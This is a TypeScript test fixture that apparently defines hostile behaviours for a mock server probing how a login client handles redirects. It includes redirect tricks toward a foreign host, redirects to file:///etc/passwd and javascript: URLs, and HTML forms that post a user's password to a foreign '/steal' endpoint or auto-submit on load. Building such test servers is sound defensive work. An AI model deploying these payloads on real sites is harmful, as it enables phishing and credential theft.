/** Where a server may try to send a client, and what it would take along. */
import { type Asked, type Mischief, type Place, PLACES, page, redirect } from "./server.js";

const form = (action: string, more = ""): string =>
  `<form method="post" action="${action}"><input name="username"><input name="password" type="password"><button ${more}>Sign in</button></form>`;
const leading = (to: (asked: Asked) => string, status = 302, at: readonly Place[] = PLACES): Mischief => ({
  at,
  reply: (_, asked) => redirect(to(asked), status),
});
const showing = (markup: (asked: Asked) => string): Mischief => ({
  at: ["login"],
  reply: (_, asked) => page(markup(asked)),
});
let hop = 0;
const pages: readonly Place[] = ["authorize", "login"];

export const REDIRECTS: Record<string, Mischief> = {
  "a loop to itself": leading(({ url }) => url.href),
  "a loop of two": leading(({ url }) => (url.pathname.startsWith("/login") ? "/authorize" : "/login"), 302, pages),
  "ever new places": leading(() => `/login/${++hop}`, 302, pages),
  "places that grow": leading(({ url }) => `/login?${url.search.slice(1)}${"x".repeat(500)}`, 303, pages),
  "another host, everywhere": leading(({ foreign }) => `${foreign}/302`),
  "another host, keeping method and body": leading(({ foreign }) => `${foreign}/307`, 307),
  "another host, for good": leading(({ foreign }) => `${foreign}/308`, 308),
  "another host without a scheme": leading(({ foreign }) => foreign.slice("http:".length), 302, pages),
  "another host with backslashes": leading(({ foreign }) => foreign.replace("http://", "\\\\"), 302, pages),
  "another host behind our name": leading(
    ({ own, foreign }) => `http://${new URL(own).host}@${new URL(foreign).host}/`,
    302,
    pages,
  ),
  "another host by the name of this machine": leading(
    ({ foreign }) => `http://localhost:${new URL(foreign).port}/`,
    302,
    pages,
  ),
  "another host after the login": {
    at: ["login"],
    reply: (usual, { form: sent, foreign }) => (sent.has("password") ? redirect(`${foreign}/after`, 307) : usual),
  },
  "another host at the end of the path of ours": leading(
    ({ own, foreign }) => `${own}/login/..//${new URL(foreign).host}`,
    302,
    ["authorize"],
  ),
  "a file": leading(() => "file:///etc/passwd"),
  "a script": leading(() => "javascript:alert(1)"),
  data: leading(() => "data:text/html,<script>1</script>"),
  "what is no URL": leading(() => "http://[::1", 302),
  "two places at once": {
    at: pages,
    reply: (_, { foreign, own }) => ({
      status: 302,
      headers: [
        ["location", `${own}/login`],
        ["location", `${foreign}/second`],
      ],
      body: "",
    }),
  },
  "another host by Refresh": {
    at: ["login"],
    reply: (_, { foreign }) => ({ ...page("x"), headers: [["refresh", `0; url=${foreign}/refresh`]] }),
  },
  "another host by the page": showing(({ foreign }) => `<meta http-equiv="refresh" content="0; url=${foreign}/meta">`),
  "another host in a frame": showing(
    ({ foreign }) => `<iframe src="${foreign}/frame"></iframe><img src="${foreign}/i">`,
  ),
  "the password to another host": showing(({ foreign }) => form(`${foreign}/steal`)),
  "the password to another host by the button": showing(({ foreign }) =>
    form("/login", `formaction="${foreign}/steal"`),
  ),
  "the password to another host by the base": showing(({ foreign }) => `<base href="${foreign}/">${form("steal")}`),
  "a form that sends itself to another host": showing(
    ({ foreign }) =>
      `<body onload="document.forms[0].submit()"><form method="post" action="${foreign}/auto"><input type="hidden" name="code" value="x"></form>`,
  ),
};
